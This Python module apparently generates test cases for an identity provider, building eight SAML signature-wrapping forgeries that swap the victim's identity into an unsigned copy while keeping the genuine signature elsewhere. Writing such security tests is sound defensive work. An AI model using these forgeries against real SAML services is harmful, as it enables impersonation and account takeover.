"""The signed assertion is kept somewhere in the message, and another one put where it is read: eight classic places.

Known from: Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be" (USENIX Security 2012), and again in CVE-2024-45409,
CVE-2025-47949, CVE-2025-66568.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from copy import deepcopy
from functools import partial

from lxml import etree

from idp_fixtures.saml.names import DS, SAML, SAMLP, Element, find, new_id
from idp_fixtures.threats import Attempt
from idp_fixtures.threats.saml._stage import Stage

CODES = ("saml_structure", "saml_signature_form", "saml_signature_invalid", "saml_signature_missing")


def attack(stage: Stage) -> Iterator[Attempt]:
    """All eight, with one signed part as with two."""
    for signs in (("assertion",), ("assertion", "response"), ("response",)):
        for number, wrap in enumerate(_FORMS, 1):
            if (number < 3 and "response" not in signs) or (number > 2 and "assertion" not in signs):
                continue
            yield stage.tampered(f"{number}, {' and '.join(signs)} signed", partial(wrap, stage), *CODES, signs=signs)


def _evil(stage: Stage, element: Element) -> Element:
    """A copy of a signed element that says the victim's name, without the signature and with an ID of its own."""
    evil = deepcopy(element)
    evil.set("ID", new_id())
    for signature in evil.findall(f"{{{DS}}}Signature"):
        evil.remove(signature)
    for text in evil.iter(f"{{{SAML}}}NameID", f"{{{SAML}}}AttributeValue"):
        text.text = (
            (text.text or "").replace(stage.attacker.email, stage.victim.email).replace(stage.attacker.id, stage.victim.id)
        )
    return evil


def _signature(element: Element) -> Element:
    return find(element, "ds:Signature")


def _assertion(tree: Element) -> Element:
    return find(tree, "saml:Assertion")


def _xsw1(stage: Stage, tree: Element) -> Element:
    """The signed response moves into its signature, beneath an evil response."""
    evil, signature = _evil(stage, tree), _signature(tree)
    tree.remove(signature)
    evil.insert(1, signature)
    signature.append(tree)
    return evil


def _xsw2(stage: Stage, tree: Element) -> Element:
    """The signed response stands beside its signature (detached), beneath an evil response."""
    evil, signature = _evil(stage, tree), _signature(tree)
    tree.remove(signature)
    evil.insert(1, tree)
    evil.insert(2, signature)
    return evil


def _xsw3(stage: Stage, tree: Element) -> None:
    """An evil assertion before the signed one."""
    tree.insert(tree.index(_assertion(tree)), _evil(stage, _assertion(tree)))


def _xsw4(stage: Stage, tree: Element) -> None:
    """The signed assertion inside the evil one."""
    signed = _assertion(tree)
    evil = _evil(stage, signed)
    tree.replace(signed, evil)
    evil.append(signed)


def _xsw5(stage: Stage, tree: Element) -> None:
    """The evil assertion takes the signature; the signed one, without it, follows at the end."""
    signed = _assertion(tree)
    evil, signature = _evil(stage, signed), _signature(signed)
    signed.remove(signature)
    evil.insert(1, signature)
    tree.replace(signed, evil)
    tree.append(signed)


def _xsw6(stage: Stage, tree: Element) -> None:
    """As the fifth, the signed assertion inside the signature."""
    signed = _assertion(tree)
    evil, signature = _evil(stage, signed), _signature(signed)
    signed.remove(signature)
    evil.insert(1, signature)
    tree.replace(signed, evil)
    signature.append(signed)


def _xsw7(stage: Stage, tree: Element) -> None:
    """The evil assertion, with the same ID, inside Extensions, which a lax schema does not look into."""
    signed = _assertion(tree)
    evil = _evil(stage, signed)
    evil.set("ID", signed.get("ID"))
    extensions = etree.SubElement(tree, f"{{{SAMLP}}}Extensions")
    extensions.append(evil)
    tree.insert(1, extensions)


def _xsw8(stage: Stage, tree: Element) -> None:
    """The evil assertion takes the signature; the signed one stands in an Object of it."""
    signed = _assertion(tree)
    evil, signature = _evil(stage, signed), _signature(signed)
    signed.remove(signature)
    evil.insert(1, signature)
    evil.set("ID", signed.get("ID"))
    tree.replace(signed, evil)
    etree.SubElement(signature, f"{{{DS}}}Object").append(signed)


_FORMS: tuple[Callable[[Stage, Element], Element | None], ...] = (_xsw1, _xsw2, _xsw3, _xsw4, _xsw5, _xsw6, _xsw7, _xsw8)
